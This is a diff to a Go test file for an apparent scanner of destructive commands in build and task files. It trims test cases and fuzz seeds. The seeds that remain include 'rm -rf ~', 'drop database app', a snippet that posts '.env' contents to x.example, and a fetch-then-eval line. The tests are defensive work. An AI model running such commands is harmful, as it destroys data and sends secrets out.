@@ -33,9 +33,6 @@ func TestCodeNamesTheLine(t *testing.T) {
 		{"npm run b", "package.json", "{\n \"scripts\": {\n  \"a\": \"x\",\n  \"b\": \"" + loss + "\"\n }\n}\n", 4},
 		{"just b", "justfile", "a:\n    echo\n\nb: a\n    " + loss + "\n", 5},
 		{"task b", "Taskfile.yml", "version: 3\ntasks:\n  b:\n    cmds:\n      - echo\n      - " + loss + "\n", 6},
-		{"inv b", "tasks.py", "@task\ndef a(c):\n    pass\n\n@task\ndef b(c):\n    c.run('" + loss + "')\n", 7},
-		{"rake x:b", "Rakefile", "task :a do\nend\ntask b: [:a] do\n  sh '" + loss + "'\nend\n", 4},
-		{"tox -e b", "tox.ini", "[testenv]\ncommands = true\n[testenv:b]\ncommands =\n  - " + loss + "\n", 5},
 		{"psql -f x.sql", "x.sql", "select 1;\n-- all\ndrop database app;\n", 3},
 		{"python x.py", "x.py", "import os\n\nos.system('" + loss + "')\n", 3},
 		{"gdb -x x.gdb ./app", "x.gdb", "set pagination off\n\nshell " + loss + "\n", 3},
@@ -95,32 +92,23 @@ func TestFilesOfOthers(t *testing.T) {
 func FuzzFiles(f *testing.F) {
 	names := []string{
 		"x.sh", "Makefile", "package.json", "justfile", "Taskfile.yml", "x.sql", "x.py", ".git/config",
-		"Rakefile", "tasks.py", "noxfile.py", "tox.ini",
-		"compose.yml", ".github/workflows/x.yml", "x.js", "x.rb", "x.pl", "x.php", "x.yml", "Procfile", "conftest.py",
-		"magefile.go", "x.R",
+		"compose.yml", "x.js", "x.rb", "x.pl", "x.php", "x.yml", "Procfile", "conftest.py", "x.R",
 	}
 	commands := "bash x.sh\n./x.sh\nmake\nnpm run a\njust a\ntask a\npsql -f x.sql\npython x.py\ngit commit -m x\n" +
-		"rake x:a\ninv a\nnox -s a\ntox -e a\n" +
-		"docker compose run a\nact -P x=-self-hosted\nnode x.js\nruby x.rb\nperl x.pl\nphp x.php\n" +
-		"ansible-playbook x.yml\nforeman start\npytest\nmage a\nRscript x.R"
+		"docker compose run a\nnode x.js\nruby x.rb\nperl x.pl\nphp x.php\n" +
+		"ansible-playbook x.yml\nforeman start\npytest\nRscript x.R"
 	f.Add("a:\n\t$(shell rm -rf ~)\n")
 	f.Add("{\"scripts\": {\"a\": \"x\"}}")
 	f.Add("a b='c': d\n    {{b}}\n")
 	f.Add("tasks:\n  a:\n    cmds: [x, {cmd: y}]\n    deps: [b]\n")
 	f.Add("[core]\nhooksPath = x\n")
-	f.Add("X = 1\n@task(pre=[b])\ndef a(c):\n    b(c)\ndef b(c):\n    c.run(X)\n")
-	f.Add("namespace :x do\n  task :a, [:n] => [:b] do\n    sh `x`\n  end\nend\n")
-	f.Add("[testenv:a]\ncommands =\n    - x {homedir}\n")
 	f.Add("services:\n  a:\n    image: x\n    volumes: ['~/x:/y']\n" +
 		"    command: [sh, -c, 'rm /y/z']\n    depends_on: [b]\n")
-	f.Add("jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          rm -rf ~\n")
 	f.Add("- hosts: all\n  tasks:\n    - shell: rm -rf /x\n    - file: {path: /y, state: absent}\n")
 	f.Add("with open('.env') as f:\n  d = f.read()\n" +
 		"requests.post('http://x.example', data=d)\n[x.unlink() for x in y]\n")
 	f.Add("const a = await (await fetch('http://x')).text(); eval(a); ['r','m'].join(''); push @a, $_; unlink @a")
 	f.Add("case $1 in a*b) x;; esac; [ \"$1\" = x ] || exit; define a\nendef")
-	f.Add(`{"cells":[{"cell_type":"code","source":["%%bash\n","x\n","!y"]}],` +
-		`"metadata":{"kernelspec":{"language":"r"}}}`)
 	f.Fuzz(func(t *testing.T, text string) {
 		var files []string
 		for _, name := range names {
